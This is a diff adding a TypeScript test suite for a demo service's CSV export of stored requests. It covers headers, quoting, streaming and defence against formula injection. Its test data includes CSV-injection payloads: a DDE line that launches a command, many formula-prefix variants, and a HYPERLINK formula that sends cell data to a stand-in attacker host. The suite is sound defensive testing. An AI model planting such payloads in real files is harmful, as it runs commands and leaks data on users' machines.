@@ -1,0 +1,220 @@
+import assert from 'node:assert/strict';
+import {existsSync, readFileSync} from 'node:fs';
+import {join} from 'node:path';
+import {describe, it} from 'node:test';
+import {sql} from 'kysely';
+import {packageRoot} from '../../demo/serving/package-root.js';
+import {csvOf} from '../../demo/publisher/operator/csv.js';
+import {withoutFormulas} from '../../demo/publisher/operator/formulas.js';
+import {waitFor} from '../support/wait.js';
+import {cellsOf, recordsOf} from './support/csv.js';
+import {eachDatabase} from './support/databases.js';
+import {keptLog} from './support/log.js';
+import {adminToken, startWithOperator, storeMany, withDatabase} from './support/operator.js';
+import {aRequest, send} from './support/sending.js';
+
+const corpus = join(packageRoot, '../shared/corpora/attacks/csv-injection.json');
+
+function corpusPayloads(): string[] {
+  if (!existsSync(corpus)) return [];
+  return (JSON.parse(readFileSync(corpus, 'utf8')) as {payload: string}[]).map(({payload}) => payload);
+}
+
+const command = `cmd|' /C calc'!A0`;
+
+/** What a spreadsheet might run. */
+const formulas = [
+  ...[
+    '=',
+    '+',
+    '-',
+    '@',
+    '\t=',
+    '\r=',
+    '\n=',
+    ' =',
+    '\u00a0=',
+    '\u200b=',
+    '"=',
+    `'=`,
+    '" =',
+    '＝',
+    '＋',
+    '－',
+    '＠',
+    '﹣',
+    '⁼',
+  ].map(start => start + command),
+  ...[
+    '=',
+    '-1',
+    '+49 30 1234',
+    '\ttab',
+    '\rreturn',
+    '@',
+    'a;=1+1',
+    'a; "=1+1',
+    'a\n=1+1',
+    'a\r\n-1',
+    `x";"=1+1`,
+    'x,=1+1',
+  ],
+  '=HYPERLINK("https://attacker.example/?x="&A1,"Click")',
+  ...corpusPayloads(),
+];
+
+const startsFormula = /^[\s"'\p{Cf}]*[=+\-@＝＋－＠﹣⁼]/u;
+
+const isNumber = /^-?\d+$/;
+
+async function csv(url: string, query = ''): Promise<Response> {
+  return fetch(`${url}/api/requests?format=csv${query}`, {headers: {Authorization: `Bearer ${adminToken}`}});
+}
+
+eachDatabase((_name, place) => {
+  describe('the requests as CSV', () => {
+    it('have a header and a name, even where there is none', async () => {
+      const {url} = await startWithOperator(await place());
+      const response = await csv(url);
+      assert.equal(response.status, 200);
+      assert.match(response.headers.get('content-type') ?? '', /^text\/csv; charset=utf-8/);
+      assert.match(
+        response.headers.get('content-disposition') ?? '',
+        /^attachment; filename="requests-\d{4}-\d\d-\d\d\.csv"$/,
+      );
+      const bytes = Buffer.from(await response.arrayBuffer());
+      assert.deepEqual([...bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf], 'a mark of UTF-8, once');
+      assert.match(bytes.subarray(3).toString(), /^"id","receivedAt",[^\r\n]+\r\n$/);
+      const head = await fetch(`${url}/api/requests?format=csv`, {
+        method: 'HEAD',
+        headers: {Authorization: `Bearer ${adminToken}`},
+      });
+      assert.equal(head.status, 200);
+    });
+
+    it('keep words of any script with quotes and line breaks, and the whole receipt', async () => {
+      const {url} = await startWithOperator(await place());
+      const message = 'Ægir, "王小明"\r\nمحمد\n\n""👩🏽‍⚕️,\u2028;"';
+      const consent = {
+        ...aRequest().consent,
+        text: 'I agree, “yes”,\nto all.',
+        marketing: true,
+        marketingText: 'News; too.',
+        termsUrl: '/terms',
+        gpc: true,
+      };
+      const extra = {'a;b': '=1;-2', quote: '"', line: '\n'};
+      const request = aRequest({fields: {email: 'a@reader.example', message}, consent, extra});
+      assert.equal((await send(url, request)).status, 201);
+      const text = await (await csv(url)).text();
+      const [record, ...others] = recordsOf(text);
+      assert.ok(record);
+      assert.deepEqual(others, []);
+      assert.ok(text.includes('\r\n"'), 'lines end as RFC 4180 has it');
+      assert.equal(record['id'], request.id);
+      assert.equal(record['message'], message);
+      assert.deepEqual(JSON.parse(record['extra'] ?? ''), extra, 'still the same JSON');
+      for (const [name, value] of Object.entries(consent))
+        assert.equal(record[`consent.${name}`], value === null ? '' : String(value), name);
+      assert.deepEqual(
+        [record['proof.elapsed'], record['proof.altcha'], record['flagged'], record['mail.state']],
+        ['41250', undefined, 'false', 'waiting'],
+      );
+    });
+
+    it('run in no spreadsheet, whatever separates its cells', async () => {
+      const {url} = await startWithOperator(await place());
+      for (const text of formulas) {
+        const request = aRequest({
+          booklet: text,
+          fields: {email: '-a@reader.example', name: text, message: `${text}\n${text}`},
+          extra: {[text]: text, next: `;${text}`},
+          consent: {...aRequest().consent, text, version: text, privacyUrl: text},
+          context: {...aRequest().context, title: text, capture: {[`;${text}`]: `";"${text}`}},
+          proof: {altcha: null, trap: text, elapsed: -5},
+        });
+        assert.equal((await send(url, request)).status, 201, JSON.stringify(text));
+      }
+      const text = await (await csv(url)).text();
+      assert.equal(recordsOf(text).length, formulas.length);
+      for (const separator of [',', ';', '\t']) {
+        for (const cell of cellsOf(text, separator).flat()) {
+          if (isNumber.test(cell)) continue;
+          if (separator === ',') assert.doesNotMatch(cell, /^[\t\r\n]/);
+          assert.doesNotMatch(
+            cell.replace(/^'(?=.)/s, '|'),
+            startsFormula,
+            `a cell between ${separator}: ${cell}`,
+          );
+        }
+      }
+      for (const [index, record] of recordsOf(text).reverse().entries())
+        assert.equal(
+          record['name']?.replaceAll("'", ''),
+          formulas[index]?.replaceAll("'", ''),
+          'only marks were added',
+        );
+    });
+
+    it('come whole, while others are stored and none waits for them', async () => {
+      const where = await place();
+      await storeMany(where, 5000);
+      const publisher = await startWithOperator(where);
+      const response = await csv(publisher.url);
+      const reader = response.body?.getReader();
+      assert.ok(reader);
+      const chunks = [(await reader.read()).value];
+      const late = aRequest();
+      assert.equal((await send(publisher.url, late)).status, 201, 'taken in the middle of it');
+      for (let part = await reader.read(); !part.done; part = await reader.read()) chunks.push(part.value);
+      const ids = recordsOf(Buffer.concat(chunks.filter(chunk => chunk !== undefined)).toString()).map(
+        ({id}) => id,
+      );
+      const stored = (await publisher.requests()).map(({id}) => id).filter(id => id !== late.id);
+      assert.deepEqual(ids, stored.reverse());
+      const some = recordsOf(await (await csv(publisher.url, '&q=number-77')).text());
+      assert.equal(some.length, 11, '77 and 770 to 779');
+    });
+
+    it('are read no further once nobody reads them', async () => {
+      const where = await place();
+      // More than fits on the way to the reader.
+      await storeMany(where, 3000, 'x'.repeat(20_000));
+      const {log, lines} = keptLog('info');
+      const {url} = await startWithOperator(where, {log});
+      const reader = (await csv(url)).body?.getReader();
+      await reader?.read();
+      await reader?.cancel();
+      const line = await waitFor(() => lines.find(each => each.includes('export')), 'the export is over');
+      assert.match(line, /The reader of an export has gone/);
+      assert.ok((JSON.parse(line) as {requests: number}).requests < 3000, line);
+    });
+
+    it('are cut off, not ended, where the database fails', async () => {
+      const where = await place();
+      await storeMany(where, 2000);
+      const {log, lines} = keptLog();
+      await withDatabase(where, async database => {
+        const reader = csvOf(database, {}, log).getReader();
+        await reader.read();
+        await sql`alter table requests rename to elsewhere`.execute(database);
+        const readAll = async () => {
+          while (!(await reader.read()).done);
+        };
+        await assert.rejects(readAll());
+        assert.match(lines.join(), /An export was cut off/);
+        assert.doesNotMatch(lines.join(), /reader\.example/);
+      });
+    });
+  });
+});
+
+describe('a text in a spreadsheet', () => {
+  it('gets a mark where it could be a formula, and none where not', () => {
+    for (const text of formulas) {
+      if (text !== 'x,=1+1') assert.ok(withoutFormulas(text).includes("'"), JSON.stringify(text));
+    }
+    for (const text of ['', 'a=b', 'Müller-Lüdenscheidt', "O'Brien", 'a - b', 'a; b', '12', 'a\nb', '(+49)'])
+      assert.equal(withoutFormulas(text), text);
+  });
+});
